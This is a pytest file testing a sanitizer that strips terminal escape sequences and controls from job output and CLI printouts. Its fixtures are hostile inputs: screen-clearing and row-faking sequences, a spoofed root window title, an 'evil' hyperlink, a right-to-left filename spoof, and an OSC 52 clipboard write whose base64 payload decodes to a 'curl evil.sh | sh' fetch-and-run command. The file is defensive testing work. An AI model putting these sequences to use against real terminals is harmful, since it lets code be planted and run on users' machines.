"""shared.text.printable: what a job wrote, as a terminal prints it or a page renders it. Hostile
inputs lose every sequence and control a terminal would act on, whole; text stays as it is."""

from __future__ import annotations

import pytest

from shared.text import printable

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

HOSTILE = [
    # (what a job wrote, what is shown)
    (f"{ESC}[2J{ESC}[Hwiped", "wiped"),  # clear screen, cursor home
    (f"{ESC}]0;root@prod: sudo{BEL}title", "title"),  # window title, BEL-terminated
    (f"{ESC}]2;pwned{ST}title", "title"),  # ... ST-terminated
    (f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={BEL}copy", "copy"),  # OSC 52: writes the clipboard
    (f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=", ""),  # ... unterminated: the payload goes with it
    (f"ok{ESC}]8;;http://evil/{ST}link{ESC}]8;;{ST}", "oklink"),  # a hyperlink's target
    (f"{ESC}[1A{ESC}[2K  fake-job  running  8 A100", "  fake-job  running  8 A100"),  # up a line, erase it
    (f"{ESC}[38;2;255;0;0mred{ESC}[0m", "red"),  # colours
    (f"{ESC}[?1049h{ESC}[?25lalt", "alt"),  # private modes: alternate screen, hidden cursor
    ("\x9b2J\x9b31mc1", "c1"),  # C1 CSI (U+009B)
    ("\x9d0;title\x9ctext", "text"),  # C1 OSC ... C1 ST
    ("\x90q#0;2;0;0;0\x9csixel", "sixel"),  # C1 DCS (sixel graphics)
    (f"{ESC}Pq#0;2{ST}dcs", "dcs"),  # DCS
    (f"{ESC}_apc{ST}{ESC}^pm{ST}{ESC}Xsos{ST}x", "x"),  # APC, PM, SOS
    (f"{ESC}creset", "reset"),  # RIS: the terminal reset
    (f"{ESC}(0line{ESC}(B", "line"),  # character set designation (nF)
    (f"{ESC}7{ESC}8saved", "saved"),  # save, restore cursor
    (f"bare{ESC}", "bare"),  # a bare ESC at the end
    (f"a{ESC}\u00e9b", "a\u00e9b"),  # ... before a letter that ends no sequence
    (f"{ESC}[", ""),  # a CSI the text ends in
    ("progress 10%\rprogress 99%", "progress 10%progress 99%"),  # carriage return: no overwrite
    ("ab\x08\x08cd", "abcd"),  # backspaces
    ("bell\x07null\x00del\x7f", "bellnulldel"),
    ("\x85nel\x8dri\x99end", "nelriend"),  # other C1 controls (NEL, RI, SGCI)
    ("first\nsecond", "firstsecond"),  # one line: no line feed
    ("safe\u202egnp.exe", "safegnp.exe"),  # right-to-left override
    ("\u2066isolated\u2069", "isolated"),
    ("one\u2028two\u2029three", "onetwothree"),  # line and paragraph separators
    ("half \udc9b surrogate", "half  surrogate"),  # a byte decoded with surrogateescape
]

KEPT = [
    "plain ASCII, punctuation: ;[]()<>&|$`'\"",
    "tab\tseparated\tcolumns",
    "Grüße, naïve café — 東京 ✓ 🚀 👩‍💻",  # letters, CJK, emoji, a ZWJ sequence
    "a [bracket] ] and ^_ P X without an ESC",
    "RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB",
    "",
]


@pytest.mark.parametrize(("written", "shown"), HOSTILE)
def test_every_sequence_and_control_a_terminal_acts_on_goes_whole(written: str, shown: str) -> None:
    assert printable(written) == shown
    assert printable(written, lines=True) == shown.replace("firstsecond", "first\nsecond")


@pytest.mark.parametrize("text", KEPT)
def test_text_stays_as_it_is(text: str) -> None:
    assert printable(text) == text
    assert printable(text, lines=True) == text


def test_with_lines_line_feeds_stay_and_nothing_else_does() -> None:
    written = f"Traceback:\r\n  {ESC}[31mboom{ESC}[0m\n{ESC}]52;c;eA==\nlast\r"
    assert printable(written, lines=True) == "Traceback:\n  boom\n\nlast"
    assert printable(written) == "Traceback:  boomlast"


def test_what_is_shown_holds_no_control_whatever_was_written() -> None:
    """Every code point from 0 to 0x3000 and each pair of the hostile ones: nothing below 0x20 but
    tab, nothing from DEL to 0x9f, no ESC, whatever the neighbours."""
    everything = "".join(map(chr, range(0x3000)))
    pieces = [written for written, _ in HOSTILE] + [everything]
    for first in pieces:
        for second in pieces:
            shown = printable(first + second)
            assert not [c for c in shown if (ord(c) < 0x20 and c != "\t") or 0x7F <= ord(c) <= 0x9F], repr(shown)


# ---- where the commands print a job's text ---------------------------------------------------------

ATTACK = (
    f"Traceback (most recent call last):\n{ESC}[2J{ESC}[H{ESC}]0;root@prod{BEL}"
    f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={BEL}\n{ESC}[1A{ESC}[2K  other-job  running  8 A100\n"
    "RuntimeError: boom\x9b2J"
)


def _nothing_drives_the_terminal(printed: str) -> None:
    assert not [c for c in printed if (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F], repr(printed)
    assert "Y3VybCBldmlsLnNoIHwgc2g=" not in printed and "root@prod" not in printed


def test_status_nodes_explain_and_errors_print_a_jobs_text_printable(capsys, no_login, tmp_path, monkeypatch):
    """An attacker's job failed with a stderr that clears the screen, sets the window title, writes
    the clipboard and fakes a row: `goodput status`, `status ID`, `nodes`, `explain` and an error
    print its words and nothing a terminal acts on."""
    import cli.explain
    import cli.status
    import cli.submit
    from cli.main import main
    from shared.schema.api import JobStatus
    from shared.schema.decisions import Explanation
    from shared.schema.nodes import NodeStatus, NodeStatuses
    from shared.schema.runs import PolicyStatus

    monkeypatch.chdir(tmp_path)  # no out/stack/user.env here
    failed = JobStatus("evil-1", "failed", reason=f"crashed{ESC}[31m\n" + ATTACK, metrics={f"loss{ESC}[8m": 0.5})

    async def query(server, ids, **options):
        return [failed], PolicyStatus("policy-1")

    monkeypatch.setattr(cli.status, "_query", query)
    for argv in (["status"], ["status", "evil-1"]):
        assert main(argv) == 0
        printed = capsys.readouterr().out
        _nothing_drives_the_terminal(printed)
        assert "crashed RuntimeError: boom" in printed
    assert "  other-job  running  8 A100" in printed and "loss 0.5" in printed  # its own line, as its text

    answers = {
        NodeStatuses: NodeStatuses((NodeStatus(f"n{ESC}]0;x{BEL}-0", "cpu", 4, "alive", ("evil-1",)),)),
        Explanation: Explanation("evil-1", "failed", (f"It failed: {ATTACK}",)),
    }

    def call(args, subject, request, answer_type, *rest, **options):
        return answers[answer_type]

    monkeypatch.setattr(cli.submit, "_call", call)
    monkeypatch.setattr(cli.explain, "_call", call)
    for argv in (["nodes"], ["explain", "evil-1"]):
        assert main(argv) == 0
        printed = capsys.readouterr().out
        _nothing_drives_the_terminal(printed)
        assert "evil-1" in printed

    def refuse(*_, **__):
        raise ValueError(f"job evil-1 refused: its profiling run failed:\n{ATTACK}")

    monkeypatch.setattr(cli.explain, "_call", refuse)
    assert main(["explain", "evil-1"]) == 2
    printed = capsys.readouterr().err
    _nothing_drives_the_terminal(printed)
    assert "RuntimeError: boom" in printed
